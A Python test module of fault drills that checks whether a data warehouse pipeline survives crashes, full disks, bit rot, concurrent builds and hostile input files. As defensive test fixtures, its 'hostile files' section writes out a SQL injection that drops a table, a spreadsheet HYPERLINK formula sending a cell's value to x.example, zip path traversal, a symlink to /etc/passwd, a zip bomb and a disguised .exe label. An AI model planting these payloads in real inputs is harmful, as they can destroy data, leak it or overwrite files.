"""Fault drills: each brings about one fault, as often as it says, and counts what was lost or half published.

Belongs here: the drills and their list. The suite runs every drill (test_drills_*), `python -m tests.faults.report`
runs them thoroughly and writes docs/reliability.md from what they return. Does not belong here: faults of publishers
(test_acquire_*).
"""

from __future__ import annotations

import datetime as dt
import io
import os
import random
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
from agency_files import SBO, as_csv, sbo
from editions import FIRST, answer_of, answer_of_parquet, publish_edition, write_edition
from installation import ROOT, Home

from orchestration.doctor import Verdict, examine
from orchestration.ingest import ingest
from warehouse import export_set, publish, versions
from warehouse.archive import Archive, ArchiveError
from warehouse.paths import Home as Folders
from warehouse.writer import Warehouse

INTERRUPTED = Path(__file__).parent / "interrupted.py"
NOW = dt.datetime(2026, 1, 1)


@dataclass
class Outcome:
    """What a drill found. `lost` and `half_published` count cases; `said` is the line a person reads."""

    times: int = 0
    lost: int = 0
    half_published: int = 0
    said: str = ""
    notes: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Drill:
    """One fault. `needs_home` drills get a home that `border build` has published, their own copy."""

    name: str
    fault: str
    tried: str
    run: Callable[[Scene], Outcome]
    needs_home: bool = False


@dataclass
class Scene:
    """Where a drill takes place; `thorough` asks for every point in time instead of some."""

    folder: Path
    thorough: bool
    home: Home | None = None

    @property
    def built(self) -> Home:
        assert self.home is not None
        return self.home


DRILLS: list[Drill] = []


def drill(
    fault: str, tried: str, *, needs_home: bool = False
) -> Callable[[Callable[[Scene], Outcome]], Callable[[Scene], Outcome]]:
    """Enter a function into the list of drills, under its own name."""

    def enter(run: Callable[[Scene], Outcome]) -> Callable[[Scene], Outcome]:
        DRILLS.append(Drill(run.__name__, fault, tried, run, needs_home))
        return run

    return enter


# --------------------------------------------------------------------------------------------------- what is counted


def edition_of(published: Path) -> int:
    """The edition readers get, by every way in; ValueError where two ways disagree or one holds a mix."""
    edition, _ = answer_of(published / "warehouse.duckdb")
    record, folder = versions.current(published), versions.current_folder(published)
    if record is None or folder is None:
        raise ValueError("the pointer names no version")
    if damage := versions.damaged(folder):
        raise ValueError(damage[0])
    if answer_of_parquet(folder) != answer_of(folder / "warehouse.duckdb")[0]:
        raise ValueError("Parquet and warehouse of one version differ")
    if edition < answer_of(folder / "warehouse.duckdb")[0]:
        raise ValueError("the file readers open is older than the version the pointer names")
    return edition


def judge(outcome: Outcome, published: Path, allowed: set[int]) -> None:
    """Count one trial: readers must see one of the `allowed` editions, whole."""
    outcome.times += 1
    try:
        edition = edition_of(published)
    except (ValueError, duckdb.Error, OSError) as error:
        outcome.half_published += 1
        outcome.notes.append(str(error))
        return
    if edition not in allowed:
        outcome.lost += 1
        outcome.notes.append(f"edition {edition}, expected one of {sorted(allowed)}")


def interrupted(step: str, action: str, at: int, folder: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(INTERRUPTED), step, action, str(at), str(folder)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def points(count: int, thorough: bool, some: int = 8) -> list[int]:
    """Every moment, or some spread over all of them, first and last among them."""
    if thorough or count <= some:
        return list(range(1, count + 1))
    return sorted({round(1 + i * (count - 1) / (some - 1)) for i in range(some)})


# --------------------------------------------------------------------------------------------------------- publication


@drill(
    "The process is killed while it publishes",
    "kill -9 before each change of the file system that a publication makes, then the publication again",
)
def killed_while_publishing(scene: Scene) -> Outcome:
    outcome = Outcome()
    published = scene.folder / "published"
    publish_edition(scene.folder / "build.duckdb", published, 1, keep=3)
    count = int(interrupted("publish", "count", 0, scene.folder).stdout)
    edition = edition_of(published)
    for at in points(count, scene.thorough):
        done = interrupted("publish", "kill", at, scene.folder)
        assert done.returncode == -signal.SIGKILL, done.stderr
        judge(outcome, published, {edition, edition + 1})
        edition = max(edition, answer_of(published / "warehouse.duckdb")[0])
    done = interrupted("publish", "count", 0, scene.folder)
    assert done.returncode == 0, done.stderr
    judge(outcome, published, {edition + 1})
    leftovers = list(scene.folder.rglob(f"{versions.UNFINISHED}*"))
    outcome.lost += len(leftovers)
    outcome.said = "nothing; the next publication removes what the killed one left"
    return outcome


@drill(
    "The process is killed at any moment of a publication",
    "kill -9 at moments drawn over the whole publication, DuckDB's own writes included",
)
def killed_at_any_moment(scene: Scene) -> Outcome:
    outcome = Outcome()
    published = scene.folder / "published"
    publish_edition(scene.folder / "build.duckdb", published, 1, keep=3)
    started = time.monotonic()
    interrupted("publish", "count", 0, scene.folder)
    whole = time.monotonic() - started
    moments = random.Random(1789)  # the same moments every time
    edition = edition_of(published)
    for _ in range(40 if scene.thorough else 5):
        process = subprocess.Popen(
            [sys.executable, str(INTERRUPTED), "publish", "count", "0", str(scene.folder)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            process.wait(whole * moments.uniform(0.3, 1.0))  # before that Python is still starting
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        judge(outcome, published, {edition, edition + 1})
        edition = answer_of(published / "warehouse.duckdb")[0]
    outcome.said = "nothing; the next publication goes on"
    return outcome


@drill(
    "The disk is full while it publishes",
    "every change of the file system from the n-th on fails with ENOSPC, for each n",
)
def disk_full_at_each_change(scene: Scene) -> Outcome:
    outcome = Outcome()
    published = scene.folder / "published"
    publish_edition(scene.folder / "build.duckdb", published, 1, keep=3)
    count = int(interrupted("publish", "count", 0, scene.folder).stdout)
    edition = edition_of(published)
    for at in points(count, scene.thorough):
        done = interrupted("publish", "full", at, scene.folder)
        assert done.returncode == 0, done.stderr
        judge(outcome, published, {edition, edition + 1})
        outcome.said = done.stdout.strip() or outcome.said
        edition = answer_of(published / "warehouse.duckdb")[0]
    done = interrupted("publish", "count", 0, scene.folder)
    judge(outcome, published, {edition + 1})
    return outcome


def _limited(bytes_: int) -> Callable[[], None]:
    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (bytes_, bytes_))

    return limit


@drill(
    "DuckDB cannot write on",
    "files may not grow beyond 64 kB to 3 MB (RLIMIT_FSIZE), so that DuckDB's own writes fail at different places",
)
def file_size_limit(scene: Scene) -> Outcome:
    outcome = Outcome()
    published = scene.folder / "published"
    publish_edition(scene.folder / "build.duckdb", published, 1, keep=3)
    sizes = [64_000 * 2**n for n in range(6)] if scene.thorough else [64_000, 512_000]
    for size in sizes:
        done = subprocess.run(
            [sys.executable, str(INTERRUPTED), "publish", "count", "0", str(scene.folder)],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
            preexec_fn=_limited(size),
        )
        edition = 1 if not outcome.times else edition_of(published)
        judge(outcome, published, {edition, edition + 1})
        if done.returncode == 0 and len(done.stdout.splitlines()) == 2:
            outcome.said = done.stdout.splitlines()[0]
    return outcome


@drill(
    "The file system is full",
    "a file system of 24 MB, filled until a publication fails, then given room again",
)
def small_file_system(scene: Scene) -> Outcome:
    outcome = Outcome()
    disk = scene.folder / "disk"
    disk.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", str(disk)], capture_output=True, check=False
    )
    if mounted.returncode:
        outcome.notes.append("not tried: mounting a small file system needs root")
        return outcome
    try:
        published = disk / "published"
        publish_edition(scene.folder / "build.duckdb", published, 1, keep=1)
        (disk / "filler").write_bytes(b"\0" * (shutil.disk_usage(disk).free - 300_000))
        for edition in (2, 3):
            try:
                publish_edition(scene.folder / "build.duckdb", published, edition, keep=1)
            except publish.NotPublishable as error:
                outcome.said = str(error)
            judge(outcome, published, {1})
        (disk / "filler").unlink()
        publish_edition(scene.folder / "build.duckdb", published, 4, keep=1)
        judge(outcome, published, {4})
    finally:
        subprocess.run(["umount", str(disk)], check=True, capture_output=True)
    return outcome


@drill("The clock is set back", "publications with a clock one hour, one month and ten years behind the last")
def clock_set_back(scene: Scene) -> Outcome:
    outcome = Outcome()
    published = scene.folder / "published"
    back = (dt.timedelta(0), dt.timedelta(hours=1), dt.timedelta(days=31), dt.timedelta(days=3653))
    for edition, behind in enumerate(back, 1):
        with Warehouse(scene.folder / "build.duckdb") as warehouse:
            write_edition(warehouse, edition)
            publish.publish(warehouse, published / "warehouse.duckdb", code="c", now=FIRST - behind, keep=2)
        judge(outcome, published, {edition})
        kept = [p.number for p in versions.published_versions(published)]
        outcome.lost += edition not in kept
    future = [
        f
        for f in examine(
            Folders(scene.folder), FIRST.replace(tzinfo=dt.UTC) - dt.timedelta(days=9000), deep=False
        )
        if f.area == "clock"
    ]
    outcome.said = future[0].line
    outcome.lost += future[0].verdict is not Verdict.LOOK
    return outcome


# ------------------------------------------------------------------------------------------------------------- archive


def _agency_files(folder: Path) -> None:
    folder.mkdir()
    for last in ("2023-11", "2023-12", "2024-01"):
        name = f"sbo-encounters-fy22-fy24-{dt.date.fromisoformat(last + '-01'):%b}.csv".lower()
        (folder / name).write_bytes(as_csv(SBO, sbo("2021-10", last)))


@drill(
    "The process is killed while it archives files",
    "kill -9 before each change of the file system that archiving three files makes, then archiving again",
)
def killed_while_archiving(scene: Scene) -> Outcome:
    outcome = Outcome()
    _agency_files(scene.folder / "files")
    archive = Archive(scene.folder / "archive")
    count = int(interrupted("archive", "count", 0, scene.folder).stdout)
    for at in points(count, scene.thorough):
        shutil.rmtree(archive.root)
        done = interrupted("archive", "kill", at, scene.folder)
        assert done.returncode == -signal.SIGKILL, done.stderr
        outcome.times += 1
        for release in archive.releases():  # whatever is recorded is whole
            outcome.half_published += archive.damage(release.sha256) is not None
        interrupted("archive", "count", 0, scene.folder)
        outcome.lost += len(archive.releases()) != 3
        outcome.lost += sum(archive.damage(r.sha256) is not None for r in archive.releases())
    outcome.said = "nothing; archiving again adds what is missing"
    return outcome


@drill(
    "The disk is full while it archives files",
    "every change of the file system from the n-th on fails with ENOSPC, then archiving again",
)
def disk_full_while_archiving(scene: Scene) -> Outcome:
    outcome = Outcome()
    _agency_files(scene.folder / "files")
    archive = Archive(scene.folder / "archive")
    count = int(interrupted("archive", "count", 0, scene.folder).stdout)
    for at in points(count, scene.thorough):
        shutil.rmtree(archive.root, ignore_errors=True)
        done = interrupted("archive", "full", at, scene.folder)
        assert done.returncode == 0, done.stderr
        outcome.times += 1
        outcome.said = done.stdout.strip() or outcome.said
        outcome.half_published += sum(archive.damage(r.sha256) is not None for r in archive.releases())
        interrupted("archive", "count", 0, scene.folder)
        outcome.lost += len(archive.releases()) != 3
    return outcome


@drill(
    "Archived bytes rot",
    "one bit turned in each archived file of a home, found by hash, and mended from the original",
    needs_home=True,
)
def rotten_archive(scene: Scene) -> Outcome:
    outcome = Outcome()
    home = scene.built
    archive = Archive(home.root / "archive")
    for release in archive.releases():
        blob = archive.blob(release.sha256)
        whole = blob.read_bytes()
        turned = bytearray(whole)
        turned[len(turned) // 2] ^= 1
        blob.write_bytes(bytes(turned))
        outcome.times += 1
        try:
            archive.read(release.sha256)
            outcome.half_published += 1
        except ArchiveError as error:
            outcome.said = str(error)
        named = [f for f in examine(Folders(home.root), dt.datetime.now(dt.UTC)) if f.area == "archive"]
        outcome.lost += not any(release.release_id in f.message and f.verdict is Verdict.ACT for f in named)
        list(ingest([home.reference / "series"], archive, now=NOW))
        outcome.lost += blob.read_bytes() != whole
    return outcome


# ---------------------------------------------------------------------------------------------------------------- build


def _fingerprint(file: Path) -> tuple[int, bytes]:
    return file.stat().st_ino, file.read_bytes()


def _new_file(home: Home, number: int) -> Path:
    """A folder with a carried series that the home has not seen."""
    held = {path.name for path in (home.reference / "series").iterdir()}
    others = [p for p in sorted((ROOT / "reference" / "series").glob("*state*.csv")) if p.name not in held]
    folder = home.root.parent / f"new-{number}"
    folder.mkdir()
    shutil.copy(others[number % len(others)], folder)
    return folder


@drill(
    "`border build` is killed",
    "kill -9 of a build at different moments, then the build again; readers asked after each",
    needs_home=True,
)
def killed_build(scene: Scene) -> Outcome:
    outcome = Outcome()
    home = scene.built
    before = _version(home)
    lock = home.root / "work" / "build.lock"
    stages = home.root / "published" / versions.FOLDER
    seconds: list[float | None] = [2.0, None]  # after the build has begun; None: while it publishes
    if scene.thorough:
        seconds = [0.0, 1.0, 2.0, 4.0, 6.0, 8.0, 12.0, None, None]
    for number, wait in enumerate(seconds):
        process = home.start("build", "--data", str(_new_file(home, number)))
        _until(lambda p=process: p.poll() is not None or lock.read_text() == str(p.pid))  # type: ignore[misc]
        if wait is None:
            _until(lambda p=process: p.poll() is not None or any(stages.glob(f"{versions.UNFINISHED}*")))  # type: ignore[misc]
        else:
            time.sleep(wait)
        process.kill()
        process.communicate()
        outcome.times += 1
        after = _version(home)
        outcome.half_published += after is None
        outcome.lost += after != before and process.returncode != 0 and wait is not None
        before = after
    done = home.border("build")
    outcome.lost += "Published" not in done.stderr
    archived = len(Archive(home.root / "archive").releases())
    with duckdb.connect(str(home.published), read_only=True) as con:
        row = con.execute("select releases from meta.publication").fetchone()
    outcome.lost += row is None or row[0] != archived
    outcome.said = "nothing; the next build ends the dead run, frees its slot and goes on"
    return outcome


def _until(reached: Callable[[], bool], seconds: float = 120) -> None:
    deadline = time.monotonic() + seconds
    while not reached():
        assert time.monotonic() < deadline, "the build never came so far"
        time.sleep(0.02)


def _version(home: Home) -> str | None:
    """The version readers get; None when they get none, or one whose parts disagree."""
    try:
        with duckdb.connect(str(home.published), read_only=True) as con:
            row = con.execute(
                "select version, (select count(*) from marts.january_yoy), (select count(*) from meta.releases) "
                "from meta.publication"
            ).fetchone()
    except duckdb.Error:
        return None
    folder = versions.current_folder(home.root / "published")
    if row is None or folder is None or not row[1] or not row[2] or versions.damaged(folder):
        return None
    return str(row[0])


@drill(
    "Two builds at once",
    "a second build, and a second publication, while the first holds the lock",
    needs_home=True,
)
def two_builds(scene: Scene) -> Outcome:
    outcome = Outcome()
    home = scene.built
    before = _version(home)
    first = home.start("build")
    lock = home.root / "work" / "build.lock"
    _until(lambda: lock.read_text() == str(first.pid))
    for command in ("build", "publish"):
        second = home.border(command)
        outcome.times += 1
        outcome.said = second.stderr.strip().splitlines()[-1]
        outcome.half_published += second.returncode != 2 or str(first.pid) not in outcome.said
    first.communicate(timeout=300)
    outcome.lost += first.returncode != 0 or _version(home) != before
    return outcome


@drill(
    "The home cannot be written",
    "build, fetch, ingest and publish on a folder without write permission",
    needs_home=True,
)
def read_only_home(scene: Scene) -> Outcome:
    outcome = Outcome()
    home = scene.built
    before = _fingerprint(home.published)
    as_owner = []
    if os.geteuid() == 0:  # root writes anywhere unless it gives that right up
        if not shutil.which("setpriv"):
            outcome.notes.append("not tried: root, and setpriv is not installed")
            return outcome
        drop = "-dac_override,-dac_read_search"
        as_owner = ["setpriv", f"--bounding-set={drop}", f"--inh-caps={drop}", "--"]
    folders = [home.root, *(p for p in home.root.rglob("*") if p.is_dir())]
    modes = {p: p.stat().st_mode for p in folders}
    files = {p: p.stat().st_mode for p in home.root.rglob("*") if p.is_file()}
    for path in [*folders, *files]:
        path.chmod(0o555 if path.is_dir() else 0o444)
    try:
        new = _new_file(home, 1)
        for command in (["build"], ["fetch"], ["ingest", str(new)], ["publish"]):
            done = subprocess.run(
                [*as_owner, *home.command(*command)],
                env=home.environment(),
                capture_output=True,
                text=True,
                timeout=120,
                check=False,
            )
            outcome.times += 1
            outcome.half_published += done.returncode == 0 or "Traceback" in done.stderr
            outcome.said = done.stderr.strip().splitlines()[-1]
    finally:
        for path, mode in {**modes, **files}.items():
            path.chmod(mode)
    outcome.lost += _fingerprint(home.published) != before
    return outcome


# ------------------------------------------------------------------------------------------------------- hostile files


def _sbo_lines(**change: str) -> list[dict[str, str]]:
    lines = sbo("2023-10", "2023-12")
    lines[0] |= change
    return lines


def _zip(members: dict[str, bytes], link: str | None = None) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            if name == link:
                info.external_attr = 0o120777 << 16
            bundle.writestr(info, content)
    return data.getvalue()


SQL = "'; drop table core.cbp__monthly_encounters; --"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
NAME = "sbo-encounters-fy24-fy24-dec.csv"


def hostile_files() -> Iterator[tuple[str, str, bytes]]:
    """(what, file name, bytes); only files that a publisher's mistake or a stranger could send."""
    yield "SQL as a label", NAME, as_csv(SBO, _sbo_lines(Demographic=SQL))
    yield "a formula as a label", NAME, as_csv(SBO, _sbo_lines(Demographic=FORMULA))
    yield "a field of 20 MB", NAME, as_csv(SBO, _sbo_lines(Demographic="x" * 20_000_000))
    yield "10,000 columns", NAME, (",".join(f"c{i}" for i in range(10_000)) + "\n").encode() * 3
    yield "NUL bytes", NAME, as_csv(SBO, _sbo_lines(Demographic="a\0b"))
    yield "a quote that never ends", NAME, as_csv(SBO, sbo("2023-10", "2023-12")) + b'2024,"FYTD'
    yield "a member that climbs out of its zip", "a.zip", _zip({"../../../escaped.csv": b"a,b\n1,2\n"})
    yield "an absolute member of a zip", "b.zip", _zip({"/tmp/escaped.csv": b"a,b\n1,2\n"})
    yield "a symbolic link in a zip", "c.zip", _zip({NAME: b"/etc/passwd"}, link=NAME)
    yield "a zip bomb", "d.zip", _zip({NAME: b"\0" * 600_000_000})
    yield "a file that is no zip", "e.zip", b"PK\x03\x04" + b"\0" * 100


@drill(
    "Hostile files",
    "SQL, a formula, NUL bytes or 20 MB as a label; 10,000 columns; a quote without end; traversal, absolute path, link, "
    "bomb and damage in a zip",
)
def hostile(scene: Scene) -> Outcome:
    outcome = Outcome()
    archive = Archive(scene.folder / "home" / "archive")
    list(ingest([_clean(scene.folder)], archive, now=NOW))
    sound = archive.releases()
    for what, name, data in hostile_files():
        folder = scene.folder / "hostile"
        folder.mkdir()
        (folder / name).write_bytes(data)
        before = set(scene.folder.rglob("*"))
        found = list(ingest([folder / name], archive, now=NOW))
        outcome.times += 1
        outside = [
            p
            for p in set(scene.folder.rglob("*")) - before
            if not p.is_relative_to(scene.folder / "home" / "archive")
        ]
        outcome.half_published += len(outside) + Path("/tmp/escaped.csv").exists()
        for o in found:
            if o.status in ("refused", "unknown") and ("\n" in o.message.strip() or len(o.message) > 600):
                outcome.half_published += 1
                outcome.notes.append(f"{what}: {len(o.message)} characters said")
            outcome.said = o.message if o.status == "refused" else outcome.said
        shutil.rmtree(folder)
    outcome.lost += [r for r in sound if archive.damage(r.sha256)] != []
    outcome.lost += not set(sound) <= set(archive.releases())
    return outcome


def _clean(folder: Path) -> Path:
    clean = folder / "clean"
    clean.mkdir()
    (clean / "sbo-encounters-fy24-fy24-nov.csv").write_bytes(as_csv(SBO, sbo("2023-10", "2023-11")))
    return clean


@drill(
    "Hostile labels reach the tables",
    "SQL, a formula and an unknown label in a file that is otherwise sound, through raw and core, and out as CSV",
)
def hostile_labels(scene: Scene) -> Outcome:
    from installation import Ledger

    outcome = Outcome()
    for label in (SQL, FORMULA, "Single Adults\u202egnp.exe"):
        folder = scene.folder / f"ledger-{outcome.times}"
        ledger = Ledger(folder)
        ledger.added(NAME, as_csv(SBO, _sbo_lines(Demographic=label)), "2024-01")
        ledger.load()
        outcome.times += 1
        outcome.lost += bool(ledger.lost())
        quarantined = ledger.value("select count(*) from meta.quarantine")
        outcome.half_published += quarantined != 1
        outcome.lost += ledger.value("select count(*) from core.cbp__monthly_encounters") == 0
        said = ledger.rows("select reason, decode(original) from meta.quarantine")[0]
        outcome.said = f"quarantined: {said[0]}"
        shown = export_set.neutralise(label)
        outcome.half_published += label == FORMULA and not shown.startswith("'")
        ledger.close()
    return outcome


def scenes(folder: Path, thorough: bool, base: Home | None) -> Iterator[tuple[Drill, Scene]]:
    """Each drill with a folder of its own, and a copy of the built home where it needs one."""
    for one in DRILLS:
        place = folder / one.name
        place.mkdir(parents=True)
        home = None
        if one.needs_home:
            assert base is not None
            shutil.copytree(base.root, place / "home")
            home = Home(place / "home", base.reference)
        yield one, Scene(place, thorough, home)
